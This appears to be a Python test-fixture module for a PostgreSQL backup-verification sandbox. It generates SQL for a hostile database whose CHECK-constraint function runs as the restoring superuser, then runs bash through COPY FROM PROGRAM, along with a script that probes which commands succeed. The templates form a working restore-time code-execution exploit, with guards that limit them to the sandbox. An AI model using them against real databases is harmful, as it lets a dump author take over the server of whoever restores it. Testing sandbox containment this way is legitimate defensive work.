"""A database whose own code runs as superuser while its backup is proven, and harms nobody before."""

from __future__ import annotations

from collections.abc import Sequence

# pg_dump writes a CHECK on the row type apart from its table, so that adding it runs the function as whoever restores. A server that
# listens nowhere is the sandbox's.
_ENTRANCE = """
create table entrance (n int);
create function attack() returns void language plpgsql as $attack$ {body} $attack$;
create function entered(r entrance) returns bool language plpgsql as $entered$ begin
  if current_setting('listen_addresses') = '' and current_user = 'postgres' and not exists (select from pg_roles where rolname = 'entered')
  then create role entered; perform public.attack(); end if;
  return true; end $entered$;
alter table entrance add constraint entered check (entered(entrance.*));
insert into entrance values (1);
-- Not of a superuser's, so that the proof remarks on it.
create role {owner}; alter function entered(entrance) owner to {owner};
"""
_SHELL = """
begin
  create temp table said (line text);
  execute $copy$
    copy said from program $program$/bin/bash -c {script}; true$program$ (format csv, delimiter E'\\x01', quote E'\\x02')
  $copy$;
  {then}
end
"""


def attacking(body: str, owner: str) -> str:
    """SQL of a database that runs the PL/pgSQL block `body` as the proof's superuser; `owner` is a role that is made for it."""
    return _ENTRANCE.format(body=body, owner=owner)


def shell(script: str, *, tell: bool = False) -> str:
    """A PL/pgSQL block that runs a script in bash; when it is to `tell`, what it said is raised as an error in one line."""
    assert "'" not in script, "the script is quoted for a shell"
    told = "raise exception 'said: %', (select string_agg(line, ' ') from said);" if tell else "drop table said;"
    return _SHELL.format(script=f"'{script}'", then=told)


def probes(attempts: Sequence[tuple[str, str]]) -> str:
    """A script that tries each command and prints `name=YES` or `name=no`."""
    return "\n".join(
        f'if timeout 8 bash -c "{command}" >/dev/null 2>&1 </dev/null; then echo {name}=YES; else echo {name}=no; fi'
        for name, command in attempts
    )
